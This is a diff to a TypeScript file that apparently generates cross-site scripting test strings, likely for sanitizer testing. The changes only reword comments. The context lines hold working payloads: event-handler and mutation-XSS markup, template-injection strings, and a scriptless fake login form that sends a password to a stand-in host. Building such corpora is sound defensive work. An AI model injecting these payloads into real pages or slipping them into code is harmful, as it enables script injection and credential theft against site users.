@@ -1,4 +1,4 @@
-/** The code that each attack runs. */
+/** The script that each attack string tries to run. */
 const run = 'hostile()'
 
 const handlers = [
@@ -12,7 +12,7 @@ const handlers = [
   'onbegin',
 ]
 
-/** Elements that fire a handler by themselves or at the first interaction. */
+/** Elements whose event handler runs without any interaction or at the first one. */
 const elementsWithHandler: readonly ((handler: string) => string)[] = [
   (handler) => `<img src=x ${handler}=${run}>`,
   (handler) => `<svg ${handler}=${run}>`,
@@ -84,7 +84,7 @@ const carriers: readonly ((address: string) => string)[] = [
   (address) => `<iframe src="${address}"></iframe>`,
 ]
 
-/** Mutation XSS: markup that changes its meaning when parsed again. */
+/** Mutation XSS: markup that changes its meaning when a browser parses it again. */
 const mutations = [
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
   `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
@@ -112,7 +112,7 @@ const mutations = [
   `<isindex action="javascript:${run}" type=image>`,
 ]
 
-/** Attacks with frames, forms, styles and names, without script. */
+/** Attacks without script: frames, forms, styles and names. */
 const scriptless = [
   `<form action="https://hostile.example"><input name="password"><button>Log in</button></form>`,
   `<div style="position:fixed;inset:0;background:url(https://hostile.example/a)">Log in again</div>`,
@@ -146,7 +146,7 @@ const scriptless = [
   `<p is="x" aria-label="x" tabindex=1 accesskey="x" onfocus=${run}>here</p>`,
 ]
 
-/** Template and encoding tricks that another layer might evaluate. */
+/** Template and encoding attacks that a later layer might evaluate. */
 const templates = [
   `{{constructor.constructor('${run}')()}}`,
   `\${${run}}`,
